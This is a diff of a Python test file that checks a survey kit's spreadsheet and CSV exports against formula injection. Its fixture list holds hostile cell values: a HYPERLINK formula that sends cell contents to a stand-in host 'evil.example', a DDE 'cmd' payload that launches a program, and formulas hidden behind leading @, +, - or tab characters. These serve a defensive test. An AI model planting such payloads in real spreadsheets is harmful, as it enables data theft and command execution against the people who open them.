@@ -5,10 +5,12 @@ import io
 
 from openpyxl import load_workbook
 
+from widgets.exports import csv_bytes, palette_csv_bytes, xlsx_bytes
 from widgets.model.sessions import SessionSpec
 from widgets.model.validation import clean_text
 from widgets.store.cells import FORMULA_STARTS, csv_cell, from_csv_cell
-from widgets.store.transfer import export_csv, export_palette_csv, export_xlsx, import_csv
+from widgets.store.paper import import_paper, template_csv
+from widgets.store.transfer import export_session
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "'=1+1"]
@@ -26,26 +28,35 @@ def hostile_session(store):
 
 def test_no_cell_of_the_workbook_is_a_formula_and_every_text_is_kept(sqlite_store):
     session = hostile_session(sqlite_store)
-    book = load_workbook(io.BytesIO(export_xlsx(sqlite_store, session.id)))
+    book = load_workbook(io.BytesIO(xlsx_bytes(export_session(sqlite_store, session.id))))
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     texts = {c.value for c in cells if isinstance(c.value, str)}
-    # the merged palette sheet shows each value as typed (XML reads a CR back as a line feed;
-    # the kit's own validation never stores a CR, this one came straight into the store)
+    # each value as typed (XML reads a CR back as a line feed; the kit's own validation never
+    # stores a CR, this one came straight into the store)
     assert set(HOSTILE) - {"\r=1+1"} <= texts and "\n=1+1" in texts
     assert "=cmd|' /C calc'!A0" in texts and "@Gouda" in texts
 
 
-def test_no_csv_cell_starts_a_formula_and_an_import_gives_the_same_words_back(sqlite_store):
+def test_no_csv_cell_starts_a_formula_and_a_typed_in_sheet_gives_the_same_words_back(sqlite_store):
     session = hostile_session(sqlite_store)
-    for text in (export_csv(sqlite_store, session.id), export_palette_csv(sqlite_store, session.id)):
-        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    data = export_session(sqlite_store, session.id)
+    for payload, delimiter in ((csv_bytes(data), ";"), (csv_bytes(data, plain=True), ","),
+                               (palette_csv_bytes(data), ";")):
+        cells = [cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=delimiter)
+                 for cell in row]
         assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
-    palette = list(csv.DictReader(io.StringIO(export_palette_csv(sqlite_store, session.id))))
+    palette = list(csv.DictReader(io.StringIO(palette_csv_bytes(data, plain=True).decode())))
     assert palette[0]["text"] == "'" + HOSTILE[0]  # Excel shows the words, not a link
 
+    # the same words typed into the paper table (as a spreadsheet saves them, neutralised) come back as typed
     copy, _ = sqlite_store.create_session(SessionSpec(title="Kopie", topic="wonen", activities=("palet",)))
-    import_csv(sqlite_store, export_csv(sqlite_store, session.id), copy.id)
+    copy_data = export_session(sqlite_store, copy.id)
+    lines = [template_csv(copy_data, "palet", "nl").decode("utf-8-sig").strip()]
+    for sheet, text in enumerate(HOSTILE, start=1):
+        lines.append(";".join(['Inwoner', str(sheet), 'Individueel, materieel',
+                               '"' + csv_cell(text).replace('"', '""') + '"']))
+    import_paper(sqlite_store, copy.id, "papier.csv", ("\n".join(lines) + "\n").encode("utf-8-sig"))
     as_a_phone_stores = sorted(clean_text(text, "value") for text in HOSTILE)  # tabs and CRs trimmed, as on a phone
     assert sorted(a["value"]["text"] for a in sqlite_store.answers(copy.id, "palet")) == as_a_phone_stores
 
